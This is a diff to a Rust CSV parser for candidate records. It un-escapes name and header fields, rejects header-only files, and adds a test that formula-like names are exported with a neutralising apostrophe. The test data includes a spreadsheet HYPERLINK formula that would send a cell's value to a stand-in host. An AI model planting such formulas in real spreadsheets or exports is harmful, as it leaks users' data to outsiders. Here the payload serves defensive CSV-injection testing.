@@ -5,7 +5,7 @@ use crate::number::Shortest;
 use crate::sorted_map::SortedMap;
 
 use crate::criteria::{Candidate, Criterion};
-use crate::report::csv_field;
+use crate::escape::{csv_field, csv_text};
 
 #[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
 #[error("line {line}, column {column}: {message}")]
@@ -94,7 +94,7 @@ pub fn parse(text: &str, criteria: &[Criterion]) -> Result<Vec<Candidate>, CsvEr
     }
     let mut columns: Vec<(usize, &Criterion)> = Vec::new();
     for (k, h) in header.iter().enumerate().skip(1) {
-        let h = h.trim();
+        let h = csv_text(h.trim()).trim();
         let criterion = criteria
             .iter()
             .find(|c| c.id.eq_ignore_ascii_case(h) || c.label().eq_ignore_ascii_case(h));
@@ -126,6 +126,14 @@ pub fn parse(text: &str, criteria: &[Criterion]) -> Result<Vec<Candidate>, CsvEr
             format!("no column for {} ({})", missing.label(), missing.id),
         ));
     }
+    if rows.len() == 1 {
+        // Taking "no candidates" from a file would delete every candidate of the case.
+        return Err(err(
+            2,
+            1,
+            "no candidates: the file has its header line only".into(),
+        ));
+    }
     if rows.len() - 1 > MAX_ROWS {
         return Err(err(
             MAX_ROWS + 2,
@@ -138,7 +146,7 @@ pub fn parse(text: &str, criteria: &[Criterion]) -> Result<Vec<Candidate>, CsvEr
         .map(|(line, record)| {
             let name = record
                 .first()
-                .map(|n| n.trim().to_string())
+                .map(|n| csv_text(n.trim()).trim().to_string())
                 .unwrap_or_default();
             if name.is_empty() {
                 return Err(err(*line, 1, "the name is empty".into()));
@@ -229,5 +237,34 @@ mod tests {
         let e = parse(&format!("{head}\"Ana,8\n"), &k).unwrap_err();
         assert!(e.message.contains("not closed"));
         assert_eq!(parse("", &k).unwrap_err().line, 1);
+        // A header alone would have replaced every candidate with none.
+        let e = parse(head, &k).unwrap_err();
+        assert_eq!((e.line, e.column), (2, 1));
+        assert!(e.message.starts_with("no candidates"), "{e}");
+    }
+
+    #[test]
+    fn formula_names_are_written_inert_and_read_back() {
+        let k = default_criteria();
+        let mut cand = parse(
+            "name,seniority,experience,references,track_record,availability,cost,speed,interest\nAna,8,5,5,92,30,75,35,4\n",
+            &k,
+        )
+        .unwrap()
+        .remove(0);
+        for name in [
+            "=HYPERLINK(\"http://x/?\"&B2,\"Click\")",
+            "+1",
+            "-1",
+            "@A1",
+            "'=x",
+            "'Ana",
+        ] {
+            cand.name = name.into();
+            let csv = to_csv(std::slice::from_ref(&cand), &k);
+            let line = csv.lines().nth(1).unwrap();
+            assert!(line.starts_with('\'') || line.starts_with("\"'"), "{line}");
+            assert_eq!(parse(&csv, &k).unwrap()[0].name, name);
+        }
     }
 }
